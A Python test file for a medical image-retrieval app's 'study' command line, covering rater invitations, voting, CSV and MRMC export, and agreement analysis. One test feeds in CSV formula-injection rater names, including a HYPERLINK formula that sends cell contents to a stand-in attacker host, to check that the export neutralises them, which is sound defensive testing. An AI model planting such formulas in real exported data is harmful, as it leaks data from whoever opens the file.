"""`study create | invite | invitations | revoke | close | list | export | analyse` end to end,
the votes table behind export, and the CSV's formula neutralising."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from test_study_items import write_run

from medheb_app.cli import main
from medheb_app.settings import Settings
from medheb_app.store.db import Store
from medheb_app.store.study_tables import StudyItem
from medheb_app.study import (
    find_study,
    next_item,
    record_vote,
    sign_in_with_invitation,
    undo_last_vote,
)
from medheb_app.study.export import COLUMNS, neutralise_cell, outcome, stratum, votes_frame


def run_cli(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_outcome_maps_screen_sides_to_the_canonical_pair():
    assert outcome("A", model_left="m1", model_a="m1") == "a"
    assert outcome("A", model_left="m2", model_a="m1") == "b"
    assert outcome("B", model_left="m2", model_a="m1") == "a"
    assert outcome("tie", model_left="m2", model_a="m1") == "tie"
    assert stratum(True, False) == "only_a" and stratum(False, False) == "neither"


def test_study_commands_end_to_end(tmp_path: Path, settings: Settings, capsys):
    run = write_run(tmp_path / "run", models=("oracle", "worst"), payloads=True)
    code, out, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "worst",
        "--n", "6", "--raters", "2", "--name", "pilot", "--public-title", "Chest study",
        "--json",
    )  # fmt: skip
    assert code == 0, err
    created = json.loads(out)
    assert created["n_items"] == 6 and created["models"] == ["oracle", "worst"]
    assert created["public_title"] == "Chest study" and created["withheld"] == []

    code, out, err = run_cli(capsys, "study", "invite", "--study", "pilot", "--n", "2", "--json")
    assert code == 0, err
    invitations = json.loads(out)["invitations"]
    assert [i["link"] for i in invitations] == [f"/rate?invite={i['secret']}" for i in invitations]
    code, human, _ = run_cli(capsys, "study", "invite", "--study", "pilot", "--n", "1")
    assert "shown only now" in human and "/rate?invite=" in human

    store = Store.open(settings.database_url)
    study_id = find_study(store, "pilot").id
    # names stay hidden unless asked: a reveal teaches raters each model's look (the
    # adversarial pass at 2e21a9a told later sides apart by a model's hub images)
    assert find_study(store, "pilot").reveal_after_vote is False
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "worst",
        "--n", "2", "--name", "revealing", "--reveal",
    )  # fmt: skip
    assert code == 0, err
    assert find_study(store, "revealing").reveal_after_vote is True
    for invitation, name, choice in zip(invitations, ("dr-a", "dr-b"), ("A", "tie"), strict=True):
        rater = sign_in_with_invitation(store, invitation["code"], name).rater_id
        while (view := next_item(store, study_id, rater)) is not None:
            record_vote(store, view.token, rater, choice)
    undo_last_vote(store, study_id, rater)  # dr-b's last vote is retracted, not exported

    code, out, _ = run_cli(capsys, "study", "invitations", "--study", "pilot", "--json")
    listed = json.loads(out)["invitations"]
    assert [(i["used"], i["revoked"]) for i in listed] == [(True, False)] * 2 + [(False, False)]
    assert "secret" not in out and invitations[0]["code"] not in out
    code, out, _ = run_cli(capsys, "study", "revoke", "--invitation", str(listed[2]["id"]))
    assert code == 0 and "Revoked invitation" in out
    code, out, _ = run_cli(capsys, "study", "invitations", "--study", str(study_id))
    assert "revoked" in out and "dr-a" in out

    code, out, _ = run_cli(capsys, "study", "list", "--json")
    assert json.loads(out)["studies"][0]["votes"] == 11

    csv_path = tmp_path / "out" / "votes.csv"
    code, out, err = run_cli(capsys, "study", "export", "--out", str(csv_path))
    assert code == 0, err
    assert "Wrote 11 vote(s)" in out
    table = pd.read_csv(csv_path)
    assert list(table.columns) == COLUMNS
    assert len(table) == 11 and not table["retracted"].any()
    assert set(table["stratum"]) == {"only_a"}  # oracle always hits, worst never does
    dr_a = table[table["rater_name"] == "dr-a"]
    # dr-a always chose the left list: the winner is whichever model was on the left
    assert (dr_a["winner"] == dr_a["model_left"]).all()
    assert len(votes_frame(store, "pilot", include_retracted=True)) == 12

    code, out, err = run_cli(
        capsys, "study", "analyse", "--study", "pilot", "--boot", "50", "--json"
    )
    assert code == 0, err
    summary = json.loads(out)
    assert summary["n_votes"] == 11
    overall = next(row for row in summary["rates"] if row["stratum"] == "all")
    assert overall["tie"] == 5 and overall["a"] + overall["b"] == 6
    assert summary["agreement"]["method"] == "cohen" and summary["agreement"]["n_items"] == 5
    assert summary["position_bias"] == {
        **summary["position_bias"],
        "n": 6,
        "left": 6,
        "left_rate": 1.0,
    }
    code, out, _ = run_cli(capsys, "study", "analyse", "--boot", "0")
    assert "oracle (a) vs worst (b)" in out and "Position bias" in out
    # the MRMC figures beside Wilson's, each with what it generalises to (issue 18 item 1)
    [mrmc] = summary["mrmc"]
    assert mrmc["n_readers"] == 2 and {"RRRC", "FRRC", "RRFC", "bootstrap"} <= set(mrmc["results"])
    code, out, _ = run_cli(
        capsys, "study", "analyse", "--study", "pilot", "--boot", "50", "--margin", "0.1"
    )
    assert "ORH random raters, random queries:" in out and "Wilson (per vote, n=" in out
    assert "generalises to new raters and new queries" in out
    assert "non-inferiority (margin 0.1) p" in out
    code, _, err = run_cli(capsys, "study", "analyse", "--margin", "2")
    assert code == 2 and "--margin must be between 0 and 1" in err

    code, out, _ = run_cli(capsys, "study", "close", "--study", "pilot")
    assert code == 0 and "closed" in out
    code, out, _ = run_cli(capsys, "study", "list")
    assert "CLOSED" in out and "'Chest study'" in out


def test_study_command_errors_are_one_line(tmp_path: Path, settings: Settings, capsys):
    run = write_run(tmp_path / "run")
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "nope",
        "--n", "2", "--name", "x",
    )  # fmt: skip
    assert code == 2 and err.count("\n") == 1 and "No outputs for model 'nope'" in err
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "random",
        "--n", "2", "--name", "x", "--payloads", "tasks",
    )  # fmt: skip
    assert code == 2 and "summary.json not found" in err
    (run / "summary.json").write_text(json.dumps({"suite": "no-such-suite", "tasks": []}))
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "random",
        "--n", "2", "--name", "x",
    )  # fmt: skip
    assert code == 2 and "Unknown suite 'no-such-suite'" in err
    code, _, err = run_cli(capsys, "study", "analyse", "--study", "missing")
    assert code == 2 and "No study 'missing'" in err
    code, _, err = run_cli(capsys, "study", "export", "--out", str(tmp_path))
    assert code == 2 and "is a folder" in err
    code, out, _ = run_cli(capsys, "study", "list")
    assert code == 0 and "No studies yet" in out


def test_exported_csv_neutralises_formulas(tmp_path: Path, settings: Settings, capsys):
    """Attack: a rater named =HYPERLINK(...) was exported verbatim into the votes CSV."""
    run = write_run(tmp_path / "run", models=("oracle", "worst"), payloads=True)
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "worst",
        "--n", "8", "--name", "csv", "--open-enrolment",
    )  # fmt: skip
    assert code == 0, err
    store = Store.open(settings.database_url)
    study_id = find_study(store, "csv").id
    from medheb_app.study import sign_in_open

    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\tTabbed",
        "\rReturn",
        "Dr Plain",
    ]
    typed = {}
    for name in names:
        rater = sign_in_open(store, study_id, name.strip() or "placeholder")
        typed[rater.rater_id] = name
        view = next_item(store, study_id, rater.rater_id)
        record_vote(store, view.token, rater.rater_id, "A")
    with store.session() as session:  # tab / CR lead-ins are trimmed at sign-in: write them
        from medheb_app.store.study_tables import Rater

        for rater_id, name in typed.items():
            session.get(Rater, rater_id).display_name = name
    csv_path = tmp_path / "votes.csv"
    code, _, err = run_cli(capsys, "study", "export", "--out", str(csv_path))
    assert code == 0, err
    table = pd.read_csv(csv_path, keep_default_na=False)
    assert sorted(table["rater_name"]) == sorted(["'" + name for name in names[:-1]] + ["Dr Plain"])
    for cell in (value for column in table.columns for value in table[column].astype(str)):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    raw = csv_path.read_text()
    assert ",=HYPERLINK" not in raw and "\n=" not in raw
    assert neutralise_cell("=1+1") == "'=1+1" and neutralise_cell("Dr A") == "Dr A"
    assert neutralise_cell(-3) == -3  # numbers are not text formulas


def test_mrmc_export_has_one_row_per_reader_case_and_model(tmp_path: Path, settings, capsys):
    """Issue 18 item 10: the MRMC input file iMRMC / RJafroc / MRMCaov read."""
    from medheb_app.study import create_invitations, create_study

    run = write_run(tmp_path / "run", payloads=True)
    store = Store.open(settings.database_url)
    study = create_study(store, "mrmc-out", ["oracle", "random"], run, 4, raters_per_item=2)
    for _ in range(2):
        invitation = create_invitations(store, study.id, 1)[0]
        rater = sign_in_with_invitation(store, invitation.code).rater_id
        while (view := next_item(store, study.id, rater)) is not None:
            record_vote(store, view.token, rater, "A")
    out = tmp_path / "mrmc.csv"
    code, text, err = run_cli(
        capsys, "study", "export", "--study", "mrmc-out", "--format", "mrmc", "--out", str(out)
    )
    assert code == 0, err
    frame = pd.read_csv(out)
    assert list(frame.columns) == ["reader", "case", "modality", "score", "truth", "pair"]
    assert len(frame) == 2 * 4 * 2 and "16 MRMC row(s)" in text  # raters x queries x models
    per_case = frame.groupby(["reader", "case"])["score"].sum()
    assert (per_case == 1.0).all()  # the two models' scores are complementary
    assert set(frame["modality"]) == {"oracle", "random"}


def test_a_cxr_retrieve_run_becomes_a_study_of_its_gallery_images(
    tmp_path: Path, settings: Settings, capsys
):
    """`study create --run` on a CXR-Retrieve run (whose files keep top-k hits, not ranked
    lists): each side shows the hits' own images, gold = the hits meeting the query."""
    from test_cxr_cli import nih_fixture

    from medheb_app.eval.runner import run_suite
    from medheb_app.tasks.cxr_retrieve import CxrRetrieveSuite

    gallery = nih_fixture(tmp_path / "nih")
    suite = CxrRetrieveSuite(data=f"nih:{gallery}", split=None)
    run_suite(suite, ["oracle", "random"], tmp_path / "run", settings)
    for payloads in ("auto", "none"):
        code, out, err = run_cli(
            capsys, "study", "create", "--run", str(tmp_path / "run"), "--model", "oracle",
            "--model", "random", "--n", "8", "--name", f"cxr-{payloads}",
            "--payloads", payloads, "--json",
        )  # fmt: skip
        assert code == 0, err
        assert json.loads(out)["n_items"] == 8
    code, _, err = run_cli(
        capsys, "study", "create", "--run", str(tmp_path / "run"), "--model", "oracle",
        "--model", "random", "--n", "8", "--name", "cxr-tasks", "--payloads", "tasks",
    )  # fmt: skip
    assert code == 2 and "auto (the default) or none shows those images" in err
    store = Store.open(settings.database_url)
    study = find_study(store, "cxr-auto")
    with store.session() as session:
        items = session.query(StudyItem).filter_by(study_id=study.id).all()
        rows = [(i.query_id, i.query_payload, i.top_a, i.top_b, i.gold, i.hit_a) for i in items]
    records = {
        model: {
            q["id"]: q
            for q in json.loads((tmp_path / "run" / model / "cxr-retrieve.json").read_text())[
                "queries"
            ]
        }
        for model in ("oracle", "random")
    }

    def meets(hit: dict, query: dict) -> bool:
        labels = hit["findings"]
        return all(labels.get(f) == 1 for f in query["positives"]) and all(
            labels.get(f) != 1 for f in query["negatives"]
        )

    for query_id, query, top_a, top_b, gold, hit_a in rows:
        oracle, chance = records["oracle"][query_id], records["random"][query_id]
        assert query == {"form": "text", "text": oracle["text"]}
        hits = [*oracle["top_k"], *chance["top_k"]]
        assert set(gold) == {hit["id"] for hit in hits if meets(hit, oracle)}
        assert [e["id"] for e in top_a] == [h["id"] for h in oracle["top_k"][:3]]
        assert [e["id"] for e in top_b] == [h["id"] for h in chance["top_k"][:3]]
        for entry in (*top_a, *top_b):
            payload = entry["payload"]
            assert payload["form"] == "image" and payload["synthetic"] is False
            assert Path(payload["image"]).parent.parent == settings.data_dir / "study-media"
        assert hit_a == (top_a[0]["id"] in gold)
    assert any(row[-1] for row in rows)
